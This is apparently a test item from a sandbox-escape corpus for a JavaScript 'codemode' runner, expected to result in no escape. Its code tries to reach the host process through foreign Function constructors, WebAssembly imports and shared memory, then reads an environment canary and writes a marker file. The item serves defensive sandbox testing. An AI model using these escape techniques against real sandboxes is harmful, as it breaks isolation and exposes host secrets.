// @name    WebAssembly, if present, with console.log and Function as imports; shared memory offered to the host
// @family  wasm
// @ref     vm2 2026 advisories (WebAssembly.JSTag); generic (SharedArrayBuffer crossing a thread boundary)
// @expect  no-escape
// ---- prelude (the same in every escape payload of this corpus): what to do with the host once reached ----
const MARKER = "/tmp/codemode-escape-marker";
// pwn(p): p is the host's `process`. Take the canary and leave the marker file; the canary in the
// outcome (or the marker on disk) is what the runner reports as an escape.
function pwn(p) {
  let canary = "?";
  try { canary = String(p.env.CODEMODE_CANARY); } catch {}
  try {
    const fs = typeof p.getBuiltinModule === "function" ? p.getBuiltinModule("node:fs") : p.mainModule.require("node:fs");
    fs.writeFileSync(MARKER, "escaped " + canary);
  } catch {}
  return "ESCAPED " + canary;
}
// hostProcess(v): v when it looks like a host process object.
function hostProcess(v) {
  try { if (v !== null && typeof v === "object" && typeof v.pid === "number" && v.env) return v; } catch {}
  return null;
}
// viaCtor(F): F used as the Function constructor of another realm, asked for that realm's process.
function viaCtor(F) {
  if (typeof F !== "function") return null;
  const bodies = ["return process", "return globalThis.process", "return this && this.process",
    "return typeof require === 'function' ? require('node:process') : null"];
  for (const body of bodies) {
    try { const p = hostProcess(F(body)()); if (p) return pwn(p); } catch {}
  }
  return null;
}
// probe(x): x itself, then the constructors one and two steps up from x and from its prototype.
function probe(x) {
  if (x === null || x === undefined) return null;
  const direct = hostProcess(x);
  if (direct) return pwn(direct);
  const fns = [];
  const take = (f) => { if (typeof f === "function" && fns.indexOf(f) < 0) fns.push(f); };
  try { take(x.constructor); take(x.constructor && x.constructor.constructor); } catch {}
  try {
    const proto = Reflect.getPrototypeOf(Object(x));
    take(proto && proto.constructor);
    take(proto && proto.constructor && proto.constructor.constructor);
  } catch {}
  for (const f of fns) { const r = viaCtor(f); if (r) return r; }
  return null;
}
// ---- payload ----
let out = null;
if (typeof WebAssembly === "object" && WebAssembly) {
  // (module (import "env" "log" (func (param i32))) (func (export "run") i32.const 7 call 0))
  const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 8, 2, 96, 1, 127, 0, 96, 0, 0, 2, 11, 1, 3, 101, 110, 118,
    3, 108, 111, 103, 0, 0, 3, 2, 1, 1, 7, 7, 1, 3, 114, 117, 110, 0, 1, 10, 8, 1, 6, 0, 65, 7, 16, 0, 11]);
  for (const log of [console.log, Function, codemode.demo.echo, function (n) { out = out || probe(this) || probe(arguments); }]) {
    try { const { instance } = await WebAssembly.instantiate(bytes, { env: { log } }); instance.exports.run(); } catch (e) { out = out || probe(e); }
  }
  try {
    const memory = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true });
    out = out || probe(await codemode.demo.echo({ memory, buffer: memory.buffer }));
  } catch (e) { out = out || probe(e); }
}
const sab = new SharedArrayBuffer(16);
try {
  const back = await codemode.demo.echo({ sab, view: new Int32Array(sab) });
  out = out || probe(back);
  if (back && back.sab instanceof SharedArrayBuffer) return "a SharedArrayBuffer came back from the host";
} catch (e) { out = out || probe(e); }
return out || "blocked";
